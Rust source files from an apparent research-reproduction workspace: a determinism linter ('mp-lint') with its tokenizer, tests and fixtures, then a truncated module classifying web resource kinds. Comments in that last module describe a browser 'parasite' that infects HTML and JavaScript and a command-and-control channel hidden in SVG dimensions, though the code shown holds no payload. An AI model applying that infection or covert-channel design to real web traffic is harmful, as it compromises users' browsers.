            name: value.clone(),
            value: value.clone(),
            file: path.to_string(),
            line: tok.line,
            allowed: file.allows_rule(tok.line, DOC_SYNC),
        });
    }
    items
}

/// Checks that every item's value appears verbatim in `doc`.
pub fn check_docs(items: &[DocItem], doc: &str, doc_name: &str, what: &str) -> Vec<Diagnostic> {
    items
        .iter()
        .filter(|item| !item.allowed && !doc.contains(&item.value))
        .map(|item| Diagnostic {
            rule: DOC_SYNC,
            file: item.file.clone(),
            line: item.line,
            message: format!("{what} `{}` is not documented in {doc_name}", item.value),
        })
        .collect()
}
