//! `mp-lint`: the workspace determinism & protocol static-analysis pass.
//!
//! Every claim this reproduction makes rests on deterministic seeded replay,
//! but the ingredients of that invariant — splitmix seed tags, daemon error
//! codes, CLI flags, panic conventions — are scattered constants that drift
//! silently. This crate is a self-contained static scanner: a hand-rolled
//! comment/string-aware tokenizer ([`tokens`], same byte-cursor idiom as
//! `parasite::json`, no `syn`, zero new deps) plus a rule engine
//! ([`rules`]) that walks every `crates/*/src` and root `src`/`tests` file.
//!
//! The rule catalogue:
//!
//! | rule               | guards                                               |
//! |--------------------|------------------------------------------------------|
//! | `seed-tag`         | `*_TAG` constants: u64, distinct, unique high lanes  |
//! | `nondet-iter`      | HashMap/HashSet iteration reaching output paths      |
//! | `wallclock`        | `Instant::now`/`SystemTime` outside supervision      |
//! | `thread-spawn`     | `thread::spawn` outside the sanctioned pools         |
//! | `panic-discipline` | bare `unwrap`/`panic!` where typed errors are law    |
//! | `doc-sync`         | protocol codes in PROTOCOL.md, CLI flags in README   |
//!
//! Suppression: `// mp-lint: allow(<rule>)` on the flagged line or the line
//! above. The extracted seed-tag registry is emitted in the JSON report and
//! cross-checked against `parasite::experiments::SEED_TAG_REGISTRY` by both
//! the runtime collision test and this crate's workspace test, so the
//! static and runtime views share one source of truth.

pub mod rules;
pub mod tokens;

pub use rules::{Diagnostic, DocItem, TagEntry};

use parasite::json::{Json, ToJson};
use std::path::{Path, PathBuf};

/// The result of linting a workspace.
#[derive(Debug, Clone)]
pub struct LintReport {
    /// How many `.rs` files were scanned.
    pub files_scanned: usize,
    /// All findings, sorted by `(file, line, rule)`.
    pub diagnostics: Vec<Diagnostic>,
    /// The extracted seed-tag registry (sorted by file, then line).
    pub registry: Vec<TagEntry>,
}

impl LintReport {
    /// True when the workspace produced no diagnostics.
    pub fn clean(&self) -> bool {
        self.diagnostics.is_empty()
    }

    /// Renders the human-readable report; `fix_hints` appends a remediation
    /// hint under each finding.
    pub fn render_text(&self, fix_hints: bool) -> String {
        let mut out = String::new();
        for diag in &self.diagnostics {
            out.push_str(&diag.render());
            out.push('\n');
            if fix_hints {
                out.push_str("  hint: ");
                out.push_str(rules::fix_hint(diag.rule));
                out.push('\n');
            }
        }
        if self.clean() {
            out.push_str(&format!(
                "mp-lint: clean — {} files scanned, {} seed tags registered\n",
                self.files_scanned,
                self.registry.len()
            ));
        } else {
            out.push_str(&format!(
                "mp-lint: {} diagnostic(s) across {} files scanned\n",
                self.diagnostics.len(),
                self.files_scanned
            ));
        }
        out
    }
}

impl ToJson for LintReport {
    fn to_json(&self) -> Json {
        Json::obj([
            ("files_scanned", self.files_scanned.to_json()),
            ("clean", self.clean().to_json()),
            (
                "diagnostics",
                Json::arr(self.diagnostics.iter().map(|d| {
                    Json::obj([
                        ("rule", d.rule.to_json()),
                        ("file", d.file.to_json()),
                        ("line", d.line.to_json()),
                        ("message", d.message.to_json()),
                    ])
                })),
            ),
            (
                "seed_tags",
                Json::arr(self.registry.iter().map(|t| {
                    Json::obj([
                        ("name", t.name.to_json()),
                        (
                            "value",
                            t.value
                                .map_or("unparsed".to_string(), |v| format!("0x{v:016x}"))
                                .to_json(),
                        ),
                        (
                            "lane",
                            t.lane()
                                .map_or("unparsed".to_string(), |l| format!("0x{l:04x}"))
                                .to_json(),
                        ),
                        ("file", t.file.to_json()),
                        ("line", t.line.to_json()),
                    ])
                })),
            ),
        ])
    }
}

/// Lints the workspace rooted at `root` (the directory holding the root
/// `Cargo.toml` and `crates/`). Scans `crates/*/src`, root `src` and root
/// `tests`, then runs the workspace-level registry and doc-sync checks.
pub fn run_workspace(root: &Path) -> Result<LintReport, String> {
    if !root.join("Cargo.toml").is_file() || !root.join("crates").is_dir() {
        return Err(format!(
            "{} is not the workspace root (expected Cargo.toml and crates/)",
            root.display()
        ));
    }

    let mut files: Vec<(String, PathBuf)> = Vec::new();
    for top in ["src", "tests"] {
        collect_rs_files(root, &root.join(top), &mut files)?;
    }
    let crates_dir = root.join("crates");
    let mut members: Vec<PathBuf> = std::fs::read_dir(&crates_dir)
        .map_err(|e| format!("{}: {e}", crates_dir.display()))?
        .filter_map(|entry| entry.ok().map(|e| e.path()))
        .filter(|p| p.is_dir())
        .collect();
    members.sort();
    for member in members {
        collect_rs_files(root, &member.join("src"), &mut files)?;
    }
    files.sort();

    let mut diagnostics = Vec::new();
    let mut registry = Vec::new();
    let mut codes = Vec::new();
    let mut flags = Vec::new();
    for (rel, path) in &files {
        let bytes = std::fs::read(path).map_err(|e| format!("{}: {e}", path.display()))?;
        let src = String::from_utf8_lossy(&bytes);
        let file = tokens::tokenize(&src);
        diagnostics.extend(rules::lint_file(rel, &file));
        registry.extend(rules::collect_tags(rel, &file));
        if rel.ends_with("service/src/protocol.rs") {
            codes.extend(rules::collect_error_codes(rel, &file));
        }
        if rel.ends_with("paper_report.rs") {
            flags.extend(rules::collect_cli_flags(rel, &file));
        }
    }

    diagnostics.extend(rules::check_tags(&registry));
    for (items, doc_name, what) in [
        (&codes, "PROTOCOL.md", "protocol error code"),
        (&flags, "README.md", "CLI flag"),
    ] {
        match std::fs::read_to_string(root.join(doc_name)) {
            Ok(doc) => diagnostics.extend(rules::check_docs(items, &doc, doc_name, what)),
            Err(error) => diagnostics.push(Diagnostic {
                rule: rules::DOC_SYNC,
                file: doc_name.to_string(),
                line: 1,
                message: format!("cannot read {doc_name}: {error}"),
            }),
        }
    }

    diagnostics.sort_by(|a, b| {
        (a.file.as_str(), a.line, a.rule).cmp(&(b.file.as_str(), b.line, b.rule))
    });
    Ok(LintReport { files_scanned: files.len(), diagnostics, registry })
}

/// Recursively collects `.rs` files under `dir` (sorted traversal so the
/// report order is machine-independent). A missing `dir` is fine — not
/// every crate has every source root.
fn collect_rs_files(
    root: &Path,
    dir: &Path,
    out: &mut Vec<(String, PathBuf)>,
) -> Result<(), String> {
    if !dir.is_dir() {
        return Ok(());
    }
    let mut entries: Vec<PathBuf> = std::fs::read_dir(dir)
        .map_err(|e| format!("{}: {e}", dir.display()))?
        .filter_map(|entry| entry.ok().map(|e| e.path()))
        .collect();
    entries.sort();
    for path in entries {
        if path.is_dir() {
            collect_rs_files(root, &path, out)?;
        } else if path.extension().is_some_and(|ext| ext == "rs") {
            let rel = path
                .strip_prefix(root)
                .unwrap_or(&path)
                .components()
                .map(|c| c.as_os_str().to_string_lossy())
                .collect::<Vec<_>>()
                .join("/");
            out.push((rel, path));
        }
    }
    Ok(())
}
