//! A minimal comment- and string-aware Rust tokenizer.
//!
//! Same hand-rolled byte-cursor idiom as `parasite::json`: no `syn`, no
//! regex, no dependencies — just enough lexical structure for the lint rules
//! to see identifiers, literals and punctuation while comment text and
//! string contents can never masquerade as code. The lexer is total: any
//! byte sequence (including truncated literals and stray non-ASCII bytes)
//! tokenizes without panicking, a property pinned by a proptest.

/// One lexical token. String/char literal *contents* are carried for the
/// rules that need them (doc-sync flag extraction); comments are not tokens
/// but feed the `mp-lint: allow(...)` suppression table.
#[derive(Debug, Clone, PartialEq)]
pub enum TokKind {
    /// An identifier or keyword.
    Ident(String),
    /// A numeric literal, verbatim (`0x5ea7_0000_0000_0000`, `1.25`, ...).
    Num(String),
    /// A string literal's unescaped-ish content (escape sequences are kept
    /// as their trailing byte; good enough to recognise `--flag` shapes and
    /// protocol code values, which contain no escapes).
    Str(String),
    /// A character or byte literal (content never needed by any rule).
    Char,
    /// A single punctuation byte (`:`, `.`, `!`, `#`, ...).
    Punct(u8),
}

/// A token plus the 1-based source line it starts on.
#[derive(Debug, Clone, PartialEq)]
pub struct Tok {
    pub line: u32,
    pub kind: TokKind,
}

/// The tokenized view of one source file.
#[derive(Debug, Clone, Default)]
pub struct SourceFile {
    pub toks: Vec<Tok>,
    /// `(line, rule)` pairs collected from `// mp-lint: allow(<rule>)`
    /// comments. A comma-separated list allows several rules at once.
    pub allows: Vec<(u32, String)>,
}

impl SourceFile {
    /// True when `rule` is suppressed at `line`: the allow comment may sit
    /// on the flagged line itself or on the line directly above it.
    pub fn allows_rule(&self, line: u32, rule: &str) -> bool {
        self.allows
            .iter()
            .any(|(at, name)| name == rule && (*at == line || at.saturating_add(1) == line))
    }
}

/// Tokenizes `src`. Never panics, for any input.
pub fn tokenize(src: &str) -> SourceFile {
    let mut lexer = Lexer {
        bytes: src.as_bytes(),
        pos: 0,
        line: 1,
        out: SourceFile::default(),
    };
    lexer.run();
    lexer.out
}

struct Lexer<'a> {
    bytes: &'a [u8],
    pos: usize,
    line: u32,
    out: SourceFile,
}

fn is_ident_start(b: u8) -> bool {
    b.is_ascii_alphabetic() || b == b'_'
}

fn is_ident_continue(b: u8) -> bool {
    b.is_ascii_alphanumeric() || b == b'_'
}

impl Lexer<'_> {
    fn peek(&self, ahead: usize) -> Option<u8> {
        self.bytes.get(self.pos + ahead).copied()
    }

    fn push(&mut self, line: u32, kind: TokKind) {
        self.out.toks.push(Tok { line, kind });
    }

    fn run(&mut self) {
        while let Some(b) = self.peek(0) {
            match b {
                b'\n' => {
                    self.line += 1;
                    self.pos += 1;
                }
                b' ' | b'\t' | b'\r' => self.pos += 1,
                b'/' if self.peek(1) == Some(b'/') => self.line_comment(),
                b'/' if self.peek(1) == Some(b'*') => self.block_comment(),
                b'"' => self.string_literal(),
                b'\'' => self.char_or_lifetime(),
                b'r' if self.raw_string_ahead(0) => self.raw_string(0),
                b'r' if self.peek(1) == Some(b'#') && self.peek(2).is_some_and(is_ident_start) => {
                    // Raw identifier `r#ident`.
                    self.pos += 2;
                    self.ident();
                }
                b'b' if self.peek(1) == Some(b'"') => {
                    // Byte string: lex the body exactly like a string.
                    self.pos += 1;
                    self.string_literal();
                }
                b'b' if self.peek(1) == Some(b'\'') => {
                    self.pos += 1;
                    self.char_literal();
                }
                b'b' if self.peek(1) == Some(b'r') && self.raw_string_ahead(1) => {
                    self.pos += 1;
                    self.raw_string(0);
                }
                _ if is_ident_start(b) => self.ident(),
                _ if b.is_ascii_digit() => self.number(),
                _ => {
                    self.push(self.line, TokKind::Punct(b));
                    self.pos += 1;
                }
            }
        }
    }

    fn ident(&mut self) {
        let start = self.pos;
        while self.peek(0).is_some_and(is_ident_continue) {
            self.pos += 1;
        }
        let text = String::from_utf8_lossy(&self.bytes[start..self.pos]).into_owned();
        self.push(self.line, TokKind::Ident(text));
    }

    fn number(&mut self) {
        let start = self.pos;
        while let Some(b) = self.peek(0) {
            if is_ident_continue(b) {
                self.pos += 1;
            } else if b == b'.' && self.peek(1).is_some_and(|n| n.is_ascii_digit()) {
                // `1.25` continues the literal; `0..n` leaves the range
                // punctuation alone.
                self.pos += 1;
            } else {
                break;
            }
        }
        let text = String::from_utf8_lossy(&self.bytes[start..self.pos]).into_owned();
        self.push(self.line, TokKind::Num(text));
    }

    fn line_comment(&mut self) {
        let start = self.pos;
        while self.peek(0).is_some_and(|b| b != b'\n') {
            self.pos += 1;
        }
        let text = String::from_utf8_lossy(&self.bytes[start..self.pos]);
        scan_allow(&text, self.line, &mut self.out.allows);
    }

    fn block_comment(&mut self) {
        self.pos += 2;
        let mut depth = 1usize;
        while let Some(b) = self.peek(0) {
            if b == b'/' && self.peek(1) == Some(b'*') {
                depth += 1;
                self.pos += 2;
            } else if b == b'*' && self.peek(1) == Some(b'/') {
                depth -= 1;
                self.pos += 2;
                if depth == 0 {
                    return;
                }
            } else {
                if b == b'\n' {
                    self.line += 1;
                }
                self.pos += 1;
            }
        }
    }

    fn string_literal(&mut self) {
        let line = self.line;
        self.pos += 1;
        let mut content = Vec::new();
        while let Some(b) = self.peek(0) {
            match b {
                b'\\' => {
                    if let Some(escaped) = self.peek(1) {
                        content.push(escaped);
                        if escaped == b'\n' {
                            self.line += 1;
                        }
                    }
                    self.pos = (self.pos + 2).min(self.bytes.len());
                }
                b'"' => {
                    self.pos += 1;
                    break;
                }
                b'\n' => {
                    self.line += 1;
                    content.push(b'\n');
                    self.pos += 1;
                }
                _ => {
                    content.push(b);
                    self.pos += 1;
                }
            }
        }
        let text = String::from_utf8_lossy(&content).into_owned();
        self.push(line, TokKind::Str(text));
    }

    /// True when the bytes at `pos + offset` start a raw string: `r` followed
    /// by zero or more `#` and then a `"`.
    fn raw_string_ahead(&self, offset: usize) -> bool {
        let mut ahead = offset + 1;
        while self.peek(ahead) == Some(b'#') {
            ahead += 1;
        }
        self.peek(ahead) == Some(b'"')
    }

    fn raw_string(&mut self, _offset: usize) {
        let line = self.line;
        self.pos += 1; // past `r`
        let mut hashes = 0usize;
        while self.peek(0) == Some(b'#') {
            hashes += 1;
            self.pos += 1;
        }
        self.pos += 1; // past the opening quote
        let start = self.pos;
        let mut end = self.pos;
        while let Some(b) = self.peek(0) {
            if b == b'"' && (0..hashes).all(|i| self.peek(1 + i) == Some(b'#')) {
                end = self.pos;
                self.pos += 1 + hashes;
                break;
            }
            if b == b'\n' {
                self.line += 1;
            }
            self.pos += 1;
            end = self.pos;
        }
        let text = String::from_utf8_lossy(&self.bytes[start..end.min(self.bytes.len())]);
        self.push(line, TokKind::Str(text.into_owned()));
    }

    fn char_or_lifetime(&mut self) {
        // `'a` / `'static` are lifetimes (no closing quote); `'a'`, `'\n'`
        // are char literals. A single ident byte followed by `'` is a char.
        if self.peek(1).is_some_and(is_ident_start) && self.peek(2) != Some(b'\'') {
            self.pos += 1;
            while self.peek(0).is_some_and(is_ident_continue) {
                self.pos += 1;
            }
            return;
        }
        self.char_literal();
    }

    fn char_literal(&mut self) {
        let line = self.line;
        self.pos += 1;
        while let Some(b) = self.peek(0) {
            match b {
                b'\\' => self.pos = (self.pos + 2).min(self.bytes.len()),
                b'\'' => {
                    self.pos += 1;
                    break;
                }
                // A newline means the quote was something malformed; stop so
                // line accounting stays intact.
                b'\n' => break,
                _ => self.pos += 1,
            }
        }
        self.push(line, TokKind::Char);
    }
}

/// Parses `mp-lint: allow(rule-a, rule-b)` out of one line comment's text.
fn scan_allow(text: &str, line: u32, allows: &mut Vec<(u32, String)>) {
    let Some(at) = text.find("mp-lint:") else {
        return;
    };
    let rest = &text[at + "mp-lint:".len()..];
    let Some(open) = rest.find("allow(") else {
        return;
    };
    let rest = &rest[open + "allow(".len()..];
    let Some(close) = rest.find(')') else {
        return;
    };
    for rule in rest[..close].split(',') {
        let rule = rule.trim();
        if !rule.is_empty() {
            allows.push((line, rule.to_string()));
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn idents(src: &str) -> Vec<String> {
        tokenize(src)
            .toks
            .into_iter()
            .filter_map(|t| match t.kind {
                TokKind::Ident(name) => Some(name),
                _ => None,
            })
            .collect()
    }

    #[test]
    fn comments_and_strings_hide_their_contents() {
        let src = r##"
            // HashMap in a comment
            /* thread::spawn /* nested */ still comment */
            let s = "Instant::now() in a string";
            let r = r#"SystemTime in a raw string"#;
            let real = HashMap::new();
        "##;
        let names = idents(src);
        assert!(names.contains(&"HashMap".to_string()));
        assert!(!names.contains(&"thread".to_string()));
        assert!(!names.contains(&"Instant".to_string()));
        assert!(!names.contains(&"SystemTime".to_string()));
    }

    #[test]
    fn lifetimes_do_not_eat_the_rest_of_the_line() {
        let names = idents("fn f<'a>(x: &'a str) -> &'a str { x }");
        assert!(names.contains(&"str".to_string()));
        assert!(names.contains(&"x".to_string()));
    }

    #[test]
    fn char_literals_do_not_break_pairing() {
        let names = idents("let q = '\"'; let after = 1;");
        assert!(names.contains(&"after".to_string()));
    }

    #[test]
    fn allow_comments_are_collected_with_lines() {
        let src = "let a = 1;\n// mp-lint: allow(nondet-iter, wallclock)\nlet b = 2;\n";
        let file = tokenize(src);
        assert!(file.allows_rule(2, "nondet-iter"));
        assert!(file.allows_rule(3, "wallclock"), "allow covers the next line");
        assert!(!file.allows_rule(1, "nondet-iter"));
        assert!(!file.allows_rule(3, "thread-spawn"));
    }

    #[test]
    fn truncated_literals_do_not_panic() {
        for src in ["\"unterminated", "r#\"unterminated", "'", "b'", "/* open", "0x", "r#"] {
            let _ = tokenize(src);
        }
    }

    #[test]
    fn numeric_literals_keep_underscores_and_hex() {
        let file = tokenize("const T: u64 = 0x5ea7_0000_0000_0000;");
        assert!(file
            .toks
            .iter()
            .any(|t| t.kind == TokKind::Num("0x5ea7_0000_0000_0000".to_string())));
    }
}
