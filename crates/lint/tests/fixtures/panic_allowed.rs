// Fixture: sanctioned panic forms plus explicit allows.
use std::sync::Mutex;

pub fn head(values: &[u64], guard: &Mutex<u64>) -> u64 {
    // A documented invariant message makes expect sanctioned.
    let first = values.first().expect("head called on a non-empty slice");
    // Lock poisoning propagates the panic of another thread: sanctioned.
    let held = guard.lock().unwrap();
    // An explicitly suppressed bare unwrap. mp-lint: allow(panic-discipline)
    let again = values.last().unwrap();
    first + *held + again
}

pub fn classify(kind: u8) -> &'static str {
    match kind {
        0 => "client",
        1 => "access-point",
        // Callers can only construct 0 or 1. mp-lint: allow(panic-discipline)
        _ => unreachable!("kinds are validated at parse time"),
    }
}
