// Fixture: the same spawn, suppressed as a sanctioned pool worker.
pub fn fan_out(jobs: Vec<u64>) -> Vec<std::thread::JoinHandle<u64>> {
    jobs.into_iter()
        // Joined before return; part of the sized pool. mp-lint: allow(thread-spawn)
        .map(|job| std::thread::spawn(move || job * 2))
        .collect()
}
