// Fixture: the same wall-clock reads, suppressed as supervision code.
pub fn stamp() -> (std::time::Instant, u64) {
    // Supervision deadline, never feeds results. mp-lint: allow(wallclock)
    let started = std::time::Instant::now();
    // mp-lint: allow(wallclock)
    let wall = std::time::SystemTime::now()
        .duration_since(std::time::UNIX_EPOCH)
        .map(|d| d.as_secs())
        .unwrap_or(0);
    (started, wall)
}
