// Fixture: panic discipline violations in a library crate.
pub fn head(values: &[u64]) -> u64 {
    let first = values.first().unwrap();
    if *first == 0 {
        panic!("zero is not a valid head");
    }
    *first
}

pub fn classify(kind: u8) -> &'static str {
    match kind {
        0 => "client",
        1 => "access-point",
        _ => unreachable!("kinds are validated at parse time"),
    }
}
