// Fixture: a protocol error code and a CLI flag that no document mentions.
pub mod codes {
    pub const PHANTOM: &str = "phantom_failure";
}

pub fn parse_args(arg: &str) -> bool {
    matches!(arg, "--phantom-mode")
}
