// Fixture: the same undocumented items, explicitly suppressed.
pub mod codes {
    // mp-lint: allow(doc-sync)
    pub const PHANTOM: &str = "phantom_failure";
}

pub fn parse_args(arg: &str) -> bool {
    matches!(arg, "--phantom-mode") // mp-lint: allow(doc-sync)
}
