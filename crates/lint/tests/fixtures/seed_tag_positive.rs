// Fixture: seed-tag registry violations.
// ALPHA and BETA share the 0xaaaa high lane; GAMMA is not 64-bit wide
// (and its top 16 bits are zero); DELTA duplicates ALPHA's value.
pub const ALPHA_TAG: u64 = 0xaaaa_0000_0000_0000;
pub const BETA_TAG: u64 = 0xaaaa_1111_0000_0000;
pub const GAMMA_TAG: u32 = 0x1234_5678;
pub const DELTA_TAG: u64 = 0xaaaa_0000_0000_0000;
