// Fixture: HashMap/HashSet iteration orders are nondeterministic.
use std::collections::{HashMap, HashSet};

pub fn render(totals: &HashMap<String, u64>) -> String {
    let mut out = String::new();
    for (name, count) in totals {
        out.push_str(&format!("{name}={count}\n"));
    }
    let seen: HashSet<String> = HashSet::new();
    let first = seen.iter().next().cloned();
    out.push_str(first.as_deref().unwrap_or(""));
    let keys: Vec<&String> = totals.keys().collect();
    out.push_str(&keys.len().to_string());
    out
}
