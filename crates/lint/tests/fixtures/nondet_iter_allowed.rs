// Fixture: the same iteration sites, each suppressed with an allow comment.
use std::collections::{HashMap, HashSet};

pub fn render(totals: &HashMap<String, u64>) -> String {
    let mut out = String::new();
    // The values are summed, so order cannot leak. mp-lint: allow(nondet-iter)
    for (name, count) in totals {
        out.push_str(&format!("{name}={count}\n"));
    }
    let seen: HashSet<String> = HashSet::new();
    let first = seen.iter().next().cloned(); // mp-lint: allow(nondet-iter)
    out.push_str(first.as_deref().unwrap_or(""));
    // mp-lint: allow(nondet-iter)
    let keys: Vec<&String> = totals.keys().collect();
    out.push_str(&keys.len().to_string());
    out
}
