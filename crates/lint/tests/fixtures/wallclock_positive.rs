// Fixture: wall-clock reads outside supervision code.
pub fn stamp() -> (std::time::Instant, u64) {
    let started = std::time::Instant::now();
    let wall = std::time::SystemTime::now()
        .duration_since(std::time::UNIX_EPOCH)
        .map(|d| d.as_secs())
        .unwrap_or(0);
    (started, wall)
}
