// Fixture: the same constants, each excluded from the registry checks.
// mp-lint: allow(seed-tag)
pub const ALPHA_TAG: u64 = 0xaaaa_0000_0000_0000;
// mp-lint: allow(seed-tag)
pub const BETA_TAG: u64 = 0xaaaa_1111_0000_0000;
// mp-lint: allow(seed-tag)
pub const GAMMA_TAG: u32 = 0x1234_5678;
// mp-lint: allow(seed-tag)
pub const DELTA_TAG: u64 = 0xaaaa_0000_0000_0000;
