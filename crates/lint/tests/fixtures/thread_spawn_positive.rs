// Fixture: ad-hoc thread creation outside the sanctioned pools.
pub fn fan_out(jobs: Vec<u64>) -> Vec<std::thread::JoinHandle<u64>> {
    jobs.into_iter()
        .map(|job| std::thread::spawn(move || job * 2))
        .collect()
}
