//! Property coverage: the tokenizer is total. It must never panic, whatever
//! bytes it is handed — truncated literals, stray quotes, unterminated
//! comments, invalid UTF-8 (lossily decoded), deeply nested block comments.

use proptest::collection::vec;
use proptest::prelude::*;

proptest! {
    #[test]
    fn tokenizer_never_panics_on_arbitrary_bytes(bytes in vec(any::<u8>(), 0..2048)) {
        let src = String::from_utf8_lossy(&bytes);
        let file = mp_lint::tokens::tokenize(&src);
        // Line numbers stay within the input; a panic-free lie about spans
        // would poison every downstream diagnostic.
        let lines = src.bytes().filter(|b| *b == b'\n').count() as u32 + 1;
        for tok in &file.toks {
            prop_assert!(tok.line >= 1 && tok.line <= lines);
        }
    }

    #[test]
    fn rule_engine_never_panics_on_arbitrary_bytes(bytes in vec(any::<u8>(), 0..2048)) {
        let src = String::from_utf8_lossy(&bytes);
        let file = mp_lint::tokens::tokenize(&src);
        let _ = mp_lint::rules::lint_file("crates/core/src/fuzz.rs", &file);
        let _ = mp_lint::rules::check_tags(&mp_lint::rules::collect_tags(
            "crates/core/src/fuzz.rs",
            &file,
        ));
    }

    #[test]
    fn tokenizer_is_deterministic(bytes in vec(any::<u8>(), 0..512)) {
        let src = String::from_utf8_lossy(&bytes);
        let a = mp_lint::tokens::tokenize(&src);
        let b = mp_lint::tokens::tokenize(&src);
        prop_assert_eq!(a.toks, b.toks);
        prop_assert_eq!(a.allows, b.allows);
    }
}
