//! Golden-file coverage for the rule engine: every rule has one positive
//! fixture (expected diagnostics pinned in a `.expected` file) and one
//! `allow`-suppressed twin that must lint clean.

use mp_lint::rules;
use mp_lint::tokens;
use std::path::PathBuf;

/// Every rule's fixture stem. Positive and allowed variants live at
/// `fixtures/<stem>_positive.rs` and `fixtures/<stem>_allowed.rs`.
const FIXTURES: [&str; 6] = [
    "nondet_iter",
    "wallclock",
    "thread_spawn",
    "panic",
    "seed_tag",
    "doc_sync",
];

fn fixture_dir() -> PathBuf {
    PathBuf::from(env!("CARGO_MANIFEST_DIR")).join("tests/fixtures")
}

fn read_fixture(name: &str) -> String {
    let path = fixture_dir().join(name);
    std::fs::read_to_string(&path)
        .unwrap_or_else(|error| panic!("fixture {} is readable: {error}", path.display()))
}

/// Runs the rule family named by `stem` over fixture source, exactly the way
/// `run_workspace` would dispatch the real file.
fn diagnostics_for(stem: &str, src: &str) -> Vec<rules::Diagnostic> {
    let file = tokens::tokenize(src);
    match stem {
        // The per-file rules see a non-library path so only the rule under
        // test can fire; `panic` uses a library-crate path so the
        // panic-discipline scope is active.
        "nondet_iter" | "wallclock" | "thread_spawn" => {
            rules::lint_file("crates/bench/src/fixture.rs", &file)
        }
        "panic" => rules::lint_file("crates/core/src/fixture.rs", &file),
        "seed_tag" => rules::check_tags(&rules::collect_tags("crates/core/src/fixture.rs", &file)),
        "doc_sync" => {
            let mut diags = rules::check_docs(
                &rules::collect_error_codes("crates/service/src/protocol.rs", &file),
                "",
                "PROTOCOL.md",
                "protocol error code",
            );
            diags.extend(rules::check_docs(
                &rules::collect_cli_flags("crates/bench/src/bin/paper_report.rs", &file),
                "",
                "README.md",
                "CLI flag",
            ));
            diags
        }
        other => panic!("unknown fixture stem {other:?}"),
    }
}

/// Renders diagnostics the way the goldens store them: without the synthetic
/// fixture path, which is a harness detail.
fn render(diags: &[rules::Diagnostic]) -> String {
    diags
        .iter()
        .map(|d| format!("{}: [{}] {}", d.line, d.rule, d.message))
        .collect::<Vec<_>>()
        .join("\n")
}

#[test]
fn positive_fixtures_match_their_goldens() {
    // `MP_LINT_BLESS=1 cargo test -p mp-lint --test golden` rewrites the
    // goldens from current output; review the diff before committing.
    let bless = std::env::var_os("MP_LINT_BLESS").is_some();
    for stem in FIXTURES {
        let src = read_fixture(&format!("{stem}_positive.rs"));
        let actual = render(&diagnostics_for(stem, &src));
        if bless {
            let path = fixture_dir().join(format!("{stem}_positive.expected"));
            std::fs::write(&path, format!("{}\n", actual.trim()))
                .unwrap_or_else(|error| panic!("golden {} is writable: {error}", path.display()));
        }
        let expected = read_fixture(&format!("{stem}_positive.expected"));
        assert_eq!(
            actual.trim(),
            expected.trim(),
            "diagnostics for {stem}_positive.rs drifted from the golden"
        );
        assert!(
            !actual.trim().is_empty(),
            "{stem}_positive.rs must produce at least one diagnostic"
        );
    }
}

#[test]
fn allowed_fixtures_lint_clean() {
    for stem in FIXTURES {
        let src = read_fixture(&format!("{stem}_allowed.rs"));
        let diags = diagnostics_for(stem, &src);
        assert!(
            diags.is_empty(),
            "{stem}_allowed.rs should be fully suppressed, got:\n{}",
            render(&diags)
        );
    }
}
