//! The lint pass runs in-process over this very workspace: the repository
//! must stay diagnostic-free, and the statically-extracted seed-tag registry
//! must agree with the runtime registry the collision test sweeps.

use std::collections::BTreeSet;
use std::path::PathBuf;

fn workspace_root() -> PathBuf {
    // crates/lint/../../ = the repository root.
    PathBuf::from(env!("CARGO_MANIFEST_DIR")).join("../..")
}

#[test]
fn the_workspace_lints_clean() {
    let report = mp_lint::run_workspace(&workspace_root()).expect("lint pass runs");
    assert!(
        report.clean(),
        "the workspace must lint clean; fix or `mp-lint: allow(...)` each finding:\n{}",
        report.render_text(true)
    );
    assert!(report.files_scanned > 50, "the walker found the workspace sources");
}

#[test]
fn static_registry_agrees_with_the_runtime_registry() {
    // mp-lint extracts `*_TAG` constants from source; the runtime exposes
    // them as `SEED_TAG_REGISTRY` for the collision sweep. The two views
    // must be the same set of (name, value) pairs, or one side has drifted.
    let report = mp_lint::run_workspace(&workspace_root()).expect("lint pass runs");
    let lint_view: BTreeSet<(String, u64)> = report
        .registry
        .iter()
        .map(|tag| (tag.name.clone(), tag.value.expect("registered tags parse")))
        .collect();
    let runtime_view: BTreeSet<(String, u64)> = parasite::experiments::SEED_TAG_REGISTRY
        .iter()
        .map(|(name, value)| (name.to_string(), *value))
        .collect();
    assert_eq!(
        lint_view, runtime_view,
        "statically-extracted seed tags diverge from parasite::experiments::SEED_TAG_REGISTRY"
    );
}
