//! Resource kinds and message bodies.

use serde::{Deserialize, Serialize};
use std::fmt;

/// The kind of web resource a response carries.
///
/// The parasite only infects HTML and JavaScript (paper §VI-A); images —
/// especially SVG — matter because the C&C downstream channel encodes data in
/// image dimensions (§VI-C).
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, Default, Serialize, Deserialize)]
pub enum ResourceKind {
    /// An HTML document.
    Html,
    /// A JavaScript file.
    JavaScript,
    /// A CSS stylesheet.
    Css,
    /// A raster image (PNG/JPEG/GIF).
    Image,
    /// An SVG image — its intrinsic width/height carry C&C payload bits.
    Svg,
    /// Anything else (fonts, JSON, binary downloads, ...).
    #[default]
    Other,
}

impl ResourceKind {
    /// Returns the kind implied by a `Content-Type` value.
    pub fn from_content_type(value: &str) -> Self {
        let value = value.to_ascii_lowercase();
        let mime = value.split(';').next().unwrap_or("").trim();
        match mime {
            "text/html" | "application/xhtml+xml" => ResourceKind::Html,
            "text/javascript" | "application/javascript" | "application/x-javascript" => {
                ResourceKind::JavaScript
            }
            "text/css" => ResourceKind::Css,
            "image/svg+xml" => ResourceKind::Svg,
            m if m.starts_with("image/") => ResourceKind::Image,
            _ => ResourceKind::Other,
        }
    }

    /// Returns the kind implied by a URL path extension.
    pub fn from_path(path: &str) -> Self {
        let ext = path.rsplit('.').next().unwrap_or("").to_ascii_lowercase();
        match ext.as_str() {
            "html" | "htm" => ResourceKind::Html,
            "js" | "mjs" => ResourceKind::JavaScript,
            "css" => ResourceKind::Css,
            "svg" => ResourceKind::Svg,
            "png" | "jpg" | "jpeg" | "gif" | "webp" | "ico" => ResourceKind::Image,
            _ => ResourceKind::Other,
        }
    }

    /// Canonical `Content-Type` value for this kind.
    pub fn content_type(self) -> &'static str {
        match self {
            ResourceKind::Html => "text/html",
            ResourceKind::JavaScript => "text/javascript",
            ResourceKind::Css => "text/css",
            ResourceKind::Image => "image/png",
            ResourceKind::Svg => "image/svg+xml",
            ResourceKind::Other => "application/octet-stream",
        }
    }

    /// Returns `true` if the resource is executable script or markup that can
    /// host a parasite.
    pub fn is_infectable(self) -> bool {
        matches!(self, ResourceKind::Html | ResourceKind::JavaScript)
    }
}

impl fmt::Display for ResourceKind {
